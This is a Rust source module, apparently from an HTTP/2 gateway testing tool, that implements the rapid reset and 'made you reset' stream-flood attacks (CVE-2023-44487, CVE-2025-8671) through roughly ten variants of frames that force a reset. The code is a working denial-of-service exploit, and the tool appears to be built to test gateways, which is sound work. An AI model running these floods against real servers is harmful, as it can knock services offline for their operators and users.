//! Streams that are opened to be thrown away: work for the gateway that the count of open streams does not show.

use super::{AFTER_A_FLOOD, Attack, Outcome, Target};
use crate::frame::{self, code, flag, kind, push, reset, window_update};
use crate::h2::H2;
use crate::hpack;
use crate::wire::Sent;
use std::io;

pub(super) const ATTACKS: &[Attack] = &[
    Attack { name: "rapid reset", source: "CVE-2023-44487", run: rapid_reset },
    Attack {
        name: "made you reset: window update of zero",
        source: "CVE-2025-8671; RFC 9113, 6.9",
        run: |target| made_you_reset(target, true, |stream| window_update(stream, 0)),
    },
    Attack {
        name: "made you reset: window overflow",
        source: "CVE-2025-8671; RFC 9113, 6.9.1",
        run: |target| made_you_reset(target, true, |stream| window_update(stream, 0x7fff_ffff)),
    },
    Attack {
        name: "made you reset: data on a half-closed stream",
        source: "CVE-2025-8671; RFC 9113, 5.1",
        run: |target| made_you_reset(target, true, |stream| frame::frame(kind::DATA, 0, stream, b"x")),
    },
    Attack {
        name: "made you reset: headers on a half-closed stream",
        source: "CVE-2025-8671; RFC 9113, 5.1",
        run: |target| {
            let block = hpack::request("GET", "/", &[]);
            let flags = flag::END_HEADERS | flag::END_STREAM;
            made_you_reset(target, true, move |stream| frame::frame(kind::HEADERS, flags, stream, &block))
        },
    },
    Attack {
        name: "made you reset: priority of four bytes",
        source: "CVE-2025-8671; RFC 9113, 6.3",
        run: |target| made_you_reset(target, true, |stream| frame::frame(kind::PRIORITY, 0, stream, &[0; 4])),
    },
    Attack {
        name: "made you reset: priority that depends on itself",
        source: "CVE-2025-8671; RFC 7540, 5.3.1",
        run: |target| {
            made_you_reset(target, true, |stream| {
                let mut priority = stream.to_be_bytes().to_vec();
                priority.push(16);
                frame::frame(kind::PRIORITY, 0, stream, &priority)
            })
        },
    },
    Attack {
        name: "made you reset: more data than content-length",
        source: "CVE-2025-8671; RFC 9113, 8.1.1",
        run: |target| made_you_reset(target, false, |stream| frame::frame(kind::DATA, 0, stream, &[b' '; 64])),
    },
    Attack {
        name: "made you reset: upper-case header names",
        source: "CVE-2025-8671; RFC 9113, 8.2.1",
        run: |target| malformed_requests(target, &[("X-Upper", "1")]),
    },
    Attack {
        name: "made you reset: connection-specific headers",
        source: "CVE-2025-8671; RFC 9113, 8.2.2",
        run: |target| malformed_requests(target, &[("transfer-encoding", "chunked")]),
    },
];

/// Streams of one attack: far above any limit of a client in good faith.
const STREAMS: u32 = 20_000;
/// Streams for each write.
const BATCH: u32 = 20;

/// Opens streams batch by batch until it is stopped.
fn open_streams(target: &Target, one: impl Fn(&mut Vec<u8>, u32)) -> io::Result<Outcome> {
    let mut connection = H2::open(target.address, &[])?;
    let mut next = 1;
    while next < 2 * STREAMS {
        let mut bytes = Vec::new();
        for _ in 0..BATCH {
            one(&mut bytes, next);
            next += 2;
        }
        let sent = connection.send(&bytes);
        if connection.look().goaway.is_some() || sent == Sent::Gone {
            break;
        }
        // What it has refused makes room for more: as fast as a client that plays by the count of streams.
        if sent == Sent::Stalled {
            connection.wait(AFTER_A_FLOOD, |seen| seen.goaway.is_some());
        }
    }
    Ok(Outcome::of_h2(connection, AFTER_A_FLOOD))
}

fn rapid_reset(target: &Target) -> io::Result<Outcome> {
    let block = hpack::request("GET", &target.get, &[]);
    open_streams(target, |bytes, stream| {
        push(bytes, kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &block);
        bytes.extend_from_slice(&reset(stream, code::CANCEL));
    })
}

/// Opens streams, each followed by a frame for which the gateway has to reset it.
fn made_you_reset(target: &Target, end: bool, fault: impl Fn(u32) -> Vec<u8>) -> io::Result<Outcome> {
    let block = if end {
        hpack::request("GET", &target.get, &[])
    } else {
        hpack::request("POST", &target.post, &[("content-length", "2"), ("content-type", "application/json")])
    };
    let flags = flag::END_HEADERS | if end { flag::END_STREAM } else { 0 };
    open_streams(target, |bytes, stream| {
        push(bytes, kind::HEADERS, flags, stream, &block);
        bytes.extend_from_slice(&fault(stream));
    })
}

fn malformed_requests(target: &Target, headers: &[(&str, &str)]) -> io::Result<Outcome> {
    let block = hpack::request("GET", &target.get, headers);
    open_streams(target, |bytes, stream| {
        push(bytes, kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &block);
    })
}
